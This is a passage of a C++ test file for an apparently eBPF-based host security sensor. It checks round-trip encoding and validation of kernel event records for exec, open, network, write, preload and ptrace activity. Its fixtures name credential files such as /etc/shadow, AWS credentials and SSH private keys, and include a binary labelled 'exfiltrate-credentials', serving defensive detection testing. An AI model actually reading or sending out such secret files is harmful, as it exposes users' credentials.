    n6.addr = *ip_address::parse("fe80::1:2");
    n6.port = 0;
    open_event ou = o;
    ou.source = access_path::io_uring;
    open_event oc = o;
    oc.source = access_path::compat;
    net_event ns;
    ns.op = net_op::send;
    ns.protocol = ip_proto{47};
    ns.addr = *ip_address::parse("2001:db8::47");
    ns.sock = sock_kind::raw;
    ns.peer = true;
    ns.accepted = true;
    ns.bytes = 0xFFFFFFFFFFFFFFFFull;
    ns.conn_ts = nanoseconds{-1}; // a kernel ktime above INT64_MAX: the bits come back
    ns.cookie = 0xFFFFFFFFFFFFFFFFull;
    net_event nc;
    nc.addr = *ip_address::parse("192.0.2.1");
    nc.port = 443;
    nc.sock = sock_kind::stream;
    nc.conn_ts = nanoseconds{123456789};
    nc.cookie = 4097;
    write_event w{"/tmp/.k", 0x803, 5150, 3389, 1000, access_path::syscall, write_how::write};
    write_event wc{"/tmp/.k2", 1, 2, 0, 0xFFFFFFFF, access_path::io_uring, write_how::copy};
    write_event wl{std::string(BW_PATH_MAX, 'w'), 0xFFFFFFFFFFFFFFFFull, 0xFFFFFFFFFFFFFFFFull, 1, 0,
                   access_path::compat, write_how::clone};
    std::vector<event_body> bodies = {event_body{x},  event_body{f},  event_body{xt}, event_body{o},
                                      event_body{n4}, event_body{n6}, event_body{ou}, event_body{oc},
                                      event_body{ns}, event_body{nc}, event_body{w},  event_body{wc},
                                      event_body{wl}};
    for (unsigned p = 0; p <= 255; ++p) {
        net_event any = n4;
        any.op = net_op::send;
        any.protocol = static_cast<ip_proto>(p); // a raw socket's protocol may be any number
        bodies.emplace_back(any);
    }
    for (const event_body& body : bodies) {
        auto e = make_event(body);
        for (bool truncated : {false, true}) {
            e.truncated = truncated;
            auto back = decode(*encode(e));
            REQUIRE(back.has_value());
            CHECK(*back == e);
        }
    }
}

TEST_CASE("encode: strings exactly filling their fields round-trip without the flag") {
    exec_event x;
    x.comm = std::string(BW_COMM_LEN, 'c');
    x.exe = std::string(BW_PATH_MAX, 'e');
    x.argv = {std::string(100, 'a'), std::string(BW_ARGV_MAX - 101, 'b')}; // 100 + NUL + 155 = 256, no final NUL
    const auto e = make_event(x);
    const auto b = *encode(e);
    bw_exec_event r;
    std::memcpy(&r, b.data(), sizeof(r));
    CHECK(r.argv_size == BW_ARGV_MAX);
    CHECK(r.hdr.flags == 0);
    auto back = decode(b);
    REQUIRE(back.has_value());
    CHECK(*back == e);
}

TEST_CASE("encode: strings that do not fit are cut and flagged") {
    SECTION("comm") {
        exec_event x;
        x.comm = std::string(BW_COMM_LEN + 1, 'c');
        auto back = decode(*encode(make_event(x)));
        REQUIRE(back.has_value());
        CHECK(back->truncated);
        CHECK(back->as<exec_event>()->comm == std::string(BW_COMM_LEN, 'c'));
    }
    SECTION("exe") {
        exec_event x;
        x.exe = std::string(BW_PATH_MAX + 10, 'e');
        auto back = decode(*encode(make_event(x)));
        CHECK(back->truncated);
        CHECK(back->as<exec_event>()->exe.size() == BW_PATH_MAX);
    }
    SECTION("path") {
        open_event o;
        o.path = "/" + std::string(BW_PATH_MAX, 'p');
        auto back = decode(*encode(make_event(o)));
        REQUIRE(back.has_value());
        CHECK(back->truncated);
        CHECK(back->as<open_event>()->path == o.path.substr(0, BW_PATH_MAX));
    }
    SECTION("argv cut inside an argument") {
        exec_event x;
        x.argv = {std::string(200, 'a'), std::string(100, 'b')};
        auto back = decode(*encode(make_event(x)));
        REQUIRE(back.has_value());
        CHECK(back->truncated);
        CHECK(back->as<exec_event>()->argv ==
              std::vector<std::string>{std::string(200, 'a'), std::string(BW_ARGV_MAX - 201, 'b')});
    }
    SECTION("argv: the field is full and more arguments follow") {
        exec_event x;
        x.argv = {std::string(BW_ARGV_MAX, 'a'), "b"};
        auto back = decode(*encode(make_event(x)));
        CHECK(back->truncated);
        CHECK(back->as<exec_event>()->argv == std::vector<std::string>{std::string(BW_ARGV_MAX, 'a')});
    }
    SECTION("argv: an empty last argument needs a NUL that does not fit") {
        exec_event x;
        x.argv = {std::string(BW_ARGV_MAX - 1, 'a'), ""}; // 255 + NUL = 256, then "" needs one more
        auto back = decode(*encode(make_event(x)));
        CHECK(back->truncated);
        CHECK(back->as<exec_event>()->argv == std::vector<std::string>{std::string(BW_ARGV_MAX - 1, 'a')});
    }
}

TEST_CASE("encode_into: too small a buffer writes nothing") {
    const auto e = make_event(exit_event{.exit_code = 3});
    std::array<std::byte, 40> buf{};
    buf.fill(std::byte{0x5A});
    CHECK(encode_into(e, std::span<std::byte>(buf.data(), 31)) == 0);
    CHECK(buf[0] == std::byte{0x5A});
    CHECK(encode_into(e, std::span<std::byte>(buf.data() + 1, 32)) == 32); // unaligned target
    auto back = decode(std::span<const std::byte>(buf.data() + 1, 32));
    REQUIRE(back.has_value());
    CHECK(*back == e);
}

TEST_CASE("file events are not kernel records: encode says so, decode never makes one") {
    event e;
    e.ts = nanoseconds{5};
    e.body = file_event{"/etc/shadow", 65024, 941};
    CHECK(record_size(event_kind::file) == 0);
    CHECK_FALSE(is_kernel_record(event_kind::file));
    for (auto k : {event_kind::exec, event_kind::fork, event_kind::exit, event_kind::open, event_kind::net,
                   event_kind::write})
        CHECK(is_kernel_record(k));

    const auto r = encode(e);
    REQUIRE_FALSE(r.has_value());
    CHECK(r.error().code == errc::unknown_kind);
    CHECK(r.error().message ==
          "file events are made by the sensor, not the kernel: they have no ring-buffer record to encode");

    std::array<std::byte, max_record_size> buf{};
    buf.fill(std::byte{0x5A});
    CHECK(encode_into(e, buf) == 0);
    for (auto b : buf) CHECK(b == std::byte{0x5A}); // nothing written

    // a record claiming event_kind::file's number is an unknown kind
    bw_open_event o{};
    o.hdr = header(static_cast<std::uint16_t>(event_kind::file), sizeof(bw_open_event));
    const auto d = decode(bytes_of(o));
    REQUIRE_FALSE(d.has_value());
    CHECK(d.error().code == errc::unknown_kind);
    CHECK(d.error().message == "unknown record kind 100 (known: 1..9)");
}

// ---------------------------------------------------------------------------
// decode_into / decode_record_into / event_slots: decoding into storage the
// caller keeps across records.
// ---------------------------------------------------------------------------
namespace {

// Records of every kind and shape, good and bad, in an order that changes
// kind often; long strings before short ones.
std::vector<std::vector<std::byte>> into_corpus() {
    std::vector<std::vector<std::byte>> out;
    auto long_exec = exec_record();
    {
        const std::string exe = "/opt/some/rather/long/installation/prefix/bin/exfiltrate-credentials";
        std::memset(long_exec.exe, 0, sizeof(long_exec.exe));
        std::memcpy(long_exec.exe, exe.data(), exe.size());
        std::memset(long_exec.comm, 'c', sizeof(long_exec.comm)); // fills the field: no NUL
        std::string args;
        for (int i = 0; i < 12; ++i) args += "--argument-number-" + std::to_string(i) + '\0';
        std::memcpy(long_exec.argv, args.data(), args.size());
        long_exec.argv_size = static_cast<std::uint16_t>(args.size());
        long_exec.hdr.flags = BW_F_TRUNCATED;
    }
    auto short_exec = exec_record();
    {
        std::memset(short_exec.argv, 0, sizeof(short_exec.argv));
        std::memcpy(short_exec.argv, "a\0\0", 3); // {"a", ""}
        short_exec.argv_size = 3;
    }
    auto no_argv = exec_record();
    no_argv.argv_size = 0;
    auto long_open = open_record("/home/someone/.config/some-application/credentials/production.json");
    auto short_open = open_record("/etc/shadow");
    auto empty_open = open_record("");
    auto filtered = open_record("/root/.aws/credentials");
    filtered.filter = BW_OPEN_MISS;
    filtered.key.ino = filtered.ino;
    filtered.key.dentry = 0xffff888001234560ull;
    filtered.key.generation = 3;
    filtered.gen = 17;
    bw_fork_event fork{};
    fork.hdr = header(BW_EVENT_FORK, sizeof(fork));
    fork.child_pid = 21;
    fork.child_tgid = 20;
    bw_exit_event exit{};
    exit.hdr = header(BW_EVENT_EXIT, sizeof(exit));
    exit.exit_code = -9;
    auto v6 = net_record();
    v6.family = AF_INET6;
    v6.op = BW_NET_SEND;
    v6.protocol = IPPROTO_UDP;
    for (int i = 0; i < 16; ++i) v6.addr[i] = static_cast<std::uint8_t>(i + 1);
    bw_open_repeat_event repeat{};
    repeat.hdr = header(BW_EVENT_OPEN_REPEAT, sizeof(repeat));
    repeat.ino = repeat.key.ino = 77;
    repeat.gen = 5;

    // malformed ones, one per check
    auto bad_argv = exec_record();
    bad_argv.argv_size = BW_ARGV_MAX + 1;
    auto bad_path = open_record("/x");
    bad_path.path_size = BW_PATH_MAX + 1;
    auto bad_filter = open_record("/x");
    bad_filter.filter = 9;
    auto bad_key = filtered;
    bad_key.key.ino = 1;
    auto bad_family = net_record();
    bad_family.family = 3;
    auto bad_op = net_record();
    bad_op.op = 7;
    auto bad_sock = net_record();
    bad_sock.sock_type = 4;
    auto bad_open_source = short_open;
    bad_open_source.source = 3;
    auto bad_repeat_source = repeat;
    bad_repeat_source.source = 7;
    auto long_write = write_record("/home/someone/.config/some-application/credentials/copy-of-production.json");
    long_write.source = BW_SRC_IO_URING;
    long_write.how = BW_WRITE_COPY;
    long_write.hdr.flags = BW_F_TRUNCATED;
    auto short_write = write_record("/tmp/k");
    auto empty_write = write_record("");
    empty_write.how = BW_WRITE_CLONE;
    auto bad_write_path = write_record("/x");
    bad_write_path.path_size = BW_PATH_MAX + 1;
    auto bad_write_source = write_record("/x");
    bad_write_source.source = 3;
    auto bad_write_how = write_record("/x");
    bad_write_how.how = 0;
    auto uring_open = open_record("/root/.ssh/id_ed25519");
    uring_open.source = BW_SRC_IO_URING;
    auto full_net = net_record();
    full_net.op = BW_NET_SEND;
    full_net.protocol = 47;
    full_net.sock_type = 3;
    full_net.net_flags = BW_NETF_PEER | BW_NETF_ACCEPTED;
    full_net.bytes = 1400;
    full_net.conn_ns = 99;
    full_net.cookie = 4097;
    auto bad_repeat = repeat;
    bad_repeat.key.ino = 78;
    auto bad_version = short_open;
    bad_version.hdr.version = 9;
    auto bad_kind = short_open;
    bad_kind.hdr.kind = 42;
    auto bad_size = short_open;
    bad_size.hdr.size = 100;

    out.push_back(bytes_of(long_exec));
    out.push_back(bytes_of(long_open));
    out.push_back(bytes_of(short_exec));
    out.push_back(bytes_of(short_open));
    out.push_back(bytes_of(bad_argv));
    out.push_back(bytes_of(fork));
    out.push_back(bytes_of(long_open));
    out.push_back(bytes_of(filtered));
    out.push_back(bytes_of(short_open));
    out.push_back(bytes_of(bad_path));
    out.push_back(bytes_of(empty_open));
    out.push_back(bytes_of(bad_filter));
    out.push_back(bytes_of(net_record()));
    out.push_back(bytes_of(bad_key));
    out.push_back(bytes_of(v6));
    out.push_back(bytes_of(repeat));
    out.push_back(bytes_of(exit));
    out.push_back(bytes_of(long_exec));
    out.push_back(bytes_of(no_argv));
    out.push_back(bytes_of(bad_family));
    out.push_back(bytes_of(bad_op));
    out.push_back(bytes_of(bad_sock));
    out.push_back(bytes_of(long_write));
    out.push_back(bytes_of(short_write));
    out.push_back(bytes_of(bad_write_path));
    out.push_back(bytes_of(uring_open));
    out.push_back(bytes_of(empty_write));
    out.push_back(bytes_of(bad_open_source));
    out.push_back(bytes_of(full_net));
    out.push_back(bytes_of(bad_write_source));
    out.push_back(bytes_of(long_write));
    out.push_back(bytes_of(bad_repeat_source));
    out.push_back(bytes_of(bad_write_how));
    out.push_back(bytes_of(short_write));
    out.push_back(bytes_of(net_record()));
    out.push_back(bytes_of(full_net));
    out.push_back(bytes_of(bad_repeat));
    out.push_back(bytes_of(bad_version));
    out.push_back(bytes_of(bad_kind));
    out.push_back(bytes_of(bad_size));
    out.push_back({});                              // no header
    out.push_back(bytes_of(short_open, 40));        // a prefix (size field says 680)
    auto shortened = short_open;
    shortened.hdr.size = 600;
    out.push_back(bytes_of(shortened, 600));        // short_record
    auto lengthened = bytes_of(short_open, 700);
    bw_event_header h = header(BW_EVENT_OPEN, 700);
    std::memcpy(lengthened.data(), &h, sizeof(h));
    out.push_back(lengthened);                      // oversized_record
    auto long_repeat = bytes_of(repeat, 120);
    h = header(BW_EVENT_OPEN_REPEAT, 120);
    std::memcpy(long_repeat.data(), &h, sizeof(h));
    out.push_back(long_repeat);
    auto old_repeat = bytes_of(repeat, 104);        // the ABI 2 size
    h = header(BW_EVENT_OPEN_REPEAT, 104);
    std::memcpy(old_repeat.data(), &h, sizeof(h));
    out.push_back(old_repeat);
    out.push_back(bytes_of(short_write, 100));      // a prefix of a write
    auto long_write_bytes = bytes_of(short_write, 600);
    h = header(BW_EVENT_WRITE, 600);
    std::memcpy(long_write_bytes.data(), &h, sizeof(h));
    out.push_back(long_write_bytes);                // oversized_record
    auto old_net = bytes_of(net_record(), 56);      // the ABI 2 size
    h = header(BW_EVENT_NET, 56);
    std::memcpy(old_net.data(), &h, sizeof(h));
    out.push_back(old_net);                         // short_record
    out.push_back(bytes_of(fork));
    out.push_back(bytes_of(long_exec));
    out.push_back(bytes_of(exec_record()));
    out.push_back(bytes_of(v6));
    out.push_back(bytes_of(net_record()));
    return out;
}

} // namespace

TEST_CASE("decode_into: the same events and errors as decode(), into one reused event") {
    const auto corpus = into_corpus();
    event out;
    int good = 0, bad = 0;
    for (std::size_t i = 0; i < corpus.size(); ++i) {
        INFO("record " << i);
        const auto want = decode(corpus[i]);
        const event before = out;
        const auto got = decode_into(corpus[i], out);
        REQUIRE(got.has_value() == want.has_value());
        if (want) {
            CHECK(out == *want);
            ++good;
        } else {
            CHECK(got.error().code == want.error().code);
            CHECK(got.error().message == want.error().message);
            CHECK(out == before); // an error leaves the event as it was
            ++bad;
        }
    }
    CHECK(good >= 25);
    CHECK(bad >= 25);
}

TEST_CASE("decode_record_into: the same records and errors as decode_record(), into one reused record") {
    const auto corpus = into_corpus();
    kernel_record out;
    for (std::size_t i = 0; i < corpus.size(); ++i) {
        INFO("record " << i);
        const auto want = decode_record(corpus[i]);
        const kernel_record before = out;
        const auto got = decode_record_into(corpus[i], out);
        REQUIRE(got.has_value() == want.has_value());
        if (want) {
            CHECK(out.body == want->body);
            CHECK(out.tag == want->tag);
        } else {
            CHECK(got.error().code == want.error().code);
            CHECK(got.error().message == want.error().message);
            CHECK(out.body == before.body);
            CHECK(out.tag == before.tag);
        }
    }
}

TEST_CASE("decode_into with event_slots: the same events and errors as decode()") {
    const auto corpus = into_corpus();
    event_slots slots;
    for (std::size_t i = 0; i < corpus.size(); ++i) {
        INFO("record " << i);
        const auto want = decode(corpus[i]);
        const event_slots before = slots;
        const auto got = decode_into(corpus[i], slots);
        REQUIRE(got.has_value() == want.has_value());
        if (want) {
            REQUIRE(*got != nullptr);
            CHECK(**got == *want);
            CHECK(*got == &slots.by_kind[static_cast<std::size_t>(want->kind())]);
        } else {
            CHECK(got.error().code == want.error().code);
            CHECK(got.error().message == want.error().message);
            for (std::size_t k = 0; k < slots.by_kind.size(); ++k) CHECK(slots.by_kind[k] == before.by_kind[k]);
        }
    }
}

TEST_CASE("decode_into: a short record after a long one leaves nothing of the long one") {
    const auto corpus = into_corpus();
    event out;
    REQUIRE(decode_into(corpus[0], out)); // the long exec
    REQUIRE(out.as<exec_event>()->argv.size() == 12);
    CHECK(out.truncated);
    // enrichment the sensor adds to an exec is not in any record
    out.as<exec_event>()->exe_sha256 = std::string(64, 'f');
    out.as<exec_event>()->exe_uid = 0;
    out.as<exec_event>()->exe_mode = 0755;
    REQUIRE(decode_into(corpus[2], out)); // the short exec: argv {"a", ""}
    const auto* x = out.as<exec_event>();
    REQUIRE(x != nullptr);
    CHECK(x->comm == "curl");
    CHECK(x->exe == "/usr/bin/curl");
    CHECK(x->argv == std::vector<std::string>{"a", ""});
    CHECK(x->exe_sha256.empty());
    CHECK_FALSE(x->exe_uid.has_value());
    CHECK_FALSE(x->exe_mode.has_value());
    CHECK_FALSE(out.truncated);
    CHECK(out == *decode(corpus[2]));

    auto none = exec_record();
    none.argv_size = 0;
    REQUIRE(decode_into(bytes_of(none), out));
    CHECK(out.as<exec_event>()->argv.empty());

    REQUIRE(decode_into(bytes_of(open_record("/home/someone/.config/a/very/long/path/to/a/file")), out));
    REQUIRE(decode_into(bytes_of(open_record("/a")), out));
    CHECK(out.as<open_event>()->path == "/a");
    REQUIRE(decode_into(bytes_of(open_record("")), out));
    CHECK(out.as<open_event>()->path.empty());

    // a filtered open then an unfiltered one: the record's tag goes back to the default
    kernel_record rec;
    auto filtered = open_record("/root/.aws/credentials");
    filtered.filter = BW_OPEN_SENSITIVE;
    filtered.key.ino = filtered.ino;
    filtered.gen = 9;
    REQUIRE(decode_record_into(bytes_of(filtered), rec));
    CHECK(rec.tag.filter == open_filter::sensitive);
    CHECK(rec.tag.gen == 9);
    REQUIRE(decode_record_into(bytes_of(open_record("/etc/hosts")), rec));
    CHECK(rec.tag == filter_tag{});
    REQUIRE(decode_record_into(bytes_of(filtered), rec));
    REQUIRE(decode_record_into(bytes_of(net_record()), rec));
    CHECK(rec.tag == filter_tag{});
    REQUIRE(rec.as_event() != nullptr);
    CHECK(rec.as_event()->kind() == event_kind::net);
}

TEST_CASE("decode_into: an open_repeat is validated first, then refused as decode() refuses it") {
    bw_open_repeat_event r{};
    r.hdr = header(BW_EVENT_OPEN_REPEAT, sizeof(r));
    r.ino = r.key.ino = 5;
    event out = *decode(bytes_of(open_record("/etc/passwd")));
    const event before = out;
    auto got = decode_into(bytes_of(r), out);
    REQUIRE_FALSE(got);
    CHECK(got.error().code == errc::unknown_kind);
    CHECK(got.error().message == "open_repeat record (kind 6) is no event on its own; decode_record() returns it");
    CHECK(out == before);
    r.key.ino = 6;
    got = decode_into(bytes_of(r), out);
    REQUIRE_FALSE(got);
    CHECK(got.error().code == errc::bad_field);
    CHECK(got.error().message == decode(bytes_of(r)).error().message);
    CHECK(out == before);

    // decode_record_into takes it, and an event after it
    kernel_record rec;
    r.key.ino = 5;
    REQUIRE(decode_record_into(bytes_of(r), rec));
    REQUIRE(rec.as_repeat() != nullptr);
    CHECK(*rec.as_repeat() == *decode_record(bytes_of(r))->as_repeat());
    REQUIRE(decode_record_into(bytes_of(open_record("/etc/passwd")), rec));
    REQUIRE(rec.as_event() != nullptr);
    CHECK(*rec.as_event() == before);
}

TEST_CASE("decode_into: unaligned input at every offset") {
    const auto rec = bytes_of(exec_record());
    const event want = *decode(rec);
    std::vector<std::byte> buf(rec.size() + 16);
    event out;
    for (std::size_t off = 0; off < 16; ++off) {
        std::memcpy(buf.data() + off, rec.data(), rec.size());
        REQUIRE(decode_into(std::span<const std::byte>(buf.data() + off, rec.size()), out));
        CHECK(out == want);
    }
}

TEST_CASE("decode_into with event_slots: a stream of writes, opens and sends keeps one event per kind") {
    event_slots slots;
    CHECK(slots.by_kind.size() == BW_EVENT_KIND_MAX + 1);
    auto long_write = write_record("/home/someone/.config/some-application/credentials/copy-of-production.json");
    long_write.how = BW_WRITE_CLONE;
    const auto open_bytes = bytes_of(open_record("/root/.aws/credentials"));
    auto send = net_record();
    send.op = BW_NET_SEND;
    send.bytes = 3389;
    send.sock_type = 1;

    auto w = decode_into(bytes_of(long_write), slots);
    REQUIRE(w.has_value());
    CHECK(*w == &slots.by_kind[BW_EVENT_WRITE]);
    CHECK((*w)->as<write_event>()->how == write_how::clone);
    auto o = decode_into(open_bytes, slots);
    REQUIRE(o.has_value());
    CHECK(*o == &slots.by_kind[BW_EVENT_OPEN]);
    // the write's slot is untouched by the open
    CHECK(slots.by_kind[BW_EVENT_WRITE] == *decode(bytes_of(long_write)));
    auto n = decode_into(bytes_of(send), slots);
    REQUIRE(n.has_value());
    CHECK(*n == &slots.by_kind[BW_EVENT_NET]);
    CHECK((*n)->as<net_event>()->bytes == 3389);

    // a short write after the long one: nothing of the long one is left
    const auto* before = slots.by_kind[BW_EVENT_WRITE].as<write_event>()->path.data();
    const auto short_bytes = bytes_of(write_record("/tmp/k"));
    w = decode_into(short_bytes, slots);
    REQUIRE(w.has_value());
    CHECK(**w == *decode(short_bytes));
    CHECK((*w)->as<write_event>()->path == "/tmp/k");
    CHECK((*w)->as<write_event>()->how == write_how::write);
    CHECK((*w)->as<write_event>()->path.data() == before); // the string kept its storage

    // a bad write leaves every slot as it was
    const event_slots kept = slots;
    auto bad = write_record("/x");
    bad.how = 9;
    auto err = decode_into(bytes_of(bad), slots);
    REQUIRE_FALSE(err.has_value());
    CHECK(err.error().message == "write record how 9 is not a BW_WRITE_* value (1..3)");
    for (std::size_t k = 0; k < slots.by_kind.size(); ++k) CHECK(slots.by_kind[k] == kept.by_kind[k]);

    // a repeat is refused and lands nowhere
    err = decode_into(bytes_of(repeat_record()), slots);
    REQUIRE_FALSE(err.has_value());
    CHECK(err.error().code == errc::unknown_kind);
    for (std::size_t k = 0; k < slots.by_kind.size(); ++k) CHECK(slots.by_kind[k] == kept.by_kind[k]);
}

// ---------------------------------------------------------------------------
// ABI 4 (issue 13): foreign code and scripts.
// ---------------------------------------------------------------------------

TEST_CASE("decode: an exec record's foreign bits and pending script") {
    bw_exec_event r{};
    r.hdr = header(BW_EVENT_EXEC, sizeof(r));
    r.foreign = BW_FOREIGN_PRELOAD_ENV | BW_FOREIGN_PTRACED;
    r.exec_flags = BW_EXECF_SCRIPT | BW_EXECF_DYNAMIC;
    std::memcpy(r.comm, "sync.py", 7);
    std::memcpy(r.script, "./sync.py", 9);
    auto e = decode(bytes_of(r));
    REQUIRE(e);
    const auto& x = *e->as<exec_event>();
    CHECK(x.foreign == (preload_env | ptraced));
    REQUIRE(x.script);
    CHECK(x.script->path == "./sync.py");
    CHECK(x.script->ino == 0);
    CHECK_FALSE(x.script->uid);
    // no BW_EXECF_SCRIPT: no script, whatever the field holds
    r.exec_flags = BW_EXECF_DYNAMIC;
    e = decode(bytes_of(r));
    REQUIRE(e);
    CHECK_FALSE(e->as<exec_event>()->script);
    // bits that are no BW_FOREIGN_*: a clear error
    r.foreign = 0x40;
    e = decode(bytes_of(r));
    REQUIRE_FALSE(e);
    CHECK(e.error().code == errc::bad_field);
    CHECK(e.error().message.find("foreign") != std::string::npos);
}

// The kernel scans about 16 KiB of the environment (bpf/barbwire.bpf.c,
// bw_env_foreign). A dynamic, non-secure exec whose environment it did not
// scan to its end may have a preload past the bound: env_unscanned, which
// withholds trust like a preload. Secure-exec and static images load no
// preload, so the flag means nothing there.
TEST_CASE("decode: an environment past the scan withholds trust") {
    bw_exec_event r{};
    r.hdr = header(BW_EVENT_EXEC, sizeof(r));
    std::memcpy(r.comm, "ssh", 3);
    struct row {
        std::uint16_t flags;
        bool unscanned;
    };
    for (const row& c : {row{BW_EXECF_DYNAMIC | BW_EXECF_ENV_LONG, true}, row{BW_EXECF_DYNAMIC, false},
                         row{BW_EXECF_ENV_LONG, false},
                         row{BW_EXECF_DYNAMIC | BW_EXECF_SECURE | BW_EXECF_ENV_LONG, false}}) {
        INFO("exec_flags " << c.flags);
        r.exec_flags = c.flags;
        r.foreign = BW_FOREIGN_PTRACED;
        auto e = decode(bytes_of(r));
        REQUIRE(e);
        const auto& x = *e->as<exec_event>();
        CHECK(x.foreign == (c.unscanned ? (ptraced | env_unscanned) : std::uint32_t{ptraced}));
    }
    // the kernel's own bits never carry it: a record claiming 0x20 is refused
    r.exec_flags = BW_EXECF_DYNAMIC;
    r.foreign = env_unscanned;
    auto e = decode(bytes_of(r));
    REQUIRE_FALSE(e);
    CHECK(e.error().code == errc::bad_field);
}

TEST_CASE("decode: foreign and script records") {
    bw_foreign_event f{};
    f.hdr = header(BW_EVENT_FOREIGN, sizeof(f));
    f.target_tgid = 4321;
    f.bits = BW_FOREIGN_MEM_WRITTEN;
    f.how = BW_FOREIGN_HOW_PROC_MEM;
    auto e = decode(bytes_of(f));
    REQUIRE(e);
    CHECK(e->kind() == event_kind::foreign);
    CHECK(e->pid == 10);
    CHECK(*e->as<foreign_event>() == foreign_event{4321, mem_written});
    for (const auto& [bits, how] : {std::pair{0u, 1u}, std::pair{0x20u, 1u}, std::pair{8u, 0u}, std::pair{8u, 6u}}) {
        INFO(bits << " " << how);
        f.bits = bits;
        f.how = how;
        e = decode(bytes_of(f));
        REQUIRE_FALSE(e);
        CHECK(e.error().code == errc::bad_field);
    }
    bw_script_event s{};
    s.hdr = header(BW_EVENT_SCRIPT, sizeof(s));
    s.dev = 2049;
    s.ino = 77;
    const std::string path = "/usr/lib/cloud/sync.py";
    std::memcpy(s.path, path.data(), path.size());
    s.path_size = static_cast<std::uint16_t>(path.size());
    e = decode(bytes_of(s));
    REQUIRE(e);
    const auto& sc = e->as<script_event>()->script;
    CHECK(sc.path == path);
    CHECK(sc.dev == 2049);
    CHECK(sc.ino == 77);
    CHECK(sc.sha256.empty()); // the sensor's enrichment
    s.path_size = BW_PATH_MAX + 1;
    e = decode(bytes_of(s));
    REQUIRE_FALSE(e);
    CHECK(e.error().code == errc::bad_field);
    // a short record of either kind
    CHECK_FALSE(decode(bytes_of(s, sizeof(s) - 1)));
}

TEST_CASE("encode/decode round trip: exec with script and foreign, foreign, script") {
    exec_event x;
    x.comm = "sync.py";
    x.exe = "/usr/bin/python3.11";
    x.argv = {"/usr/bin/python3", "./sync.py"};
    x.foreign = preload_file | audit_env;
    x.script.emplace();
    x.script->path = "./sync.py";
    script_event s;
    s.script.path = "/usr/lib/cloud/sync.py";
    s.script.dev = 5;
    s.script.ino = 6;
    const std::vector<event> events = {event{nanoseconds{1}, 10, 11, false, x},
                                       event{nanoseconds{2}, 10, 10, false, foreign_event{77, ptraced}},
                                       event{nanoseconds{3}, 10, 10, false, foreign_event{78, mem_written}},
                                       event{nanoseconds{4}, 10, 10, false, s}};
    for (const event& ev : events) {
        INFO(to_string(ev.kind()));
        auto bytes = encode(ev);
        REQUIRE(bytes);
        auto back = decode(*bytes);
        REQUIRE(back);
        CHECK(*back == ev);
    }
}
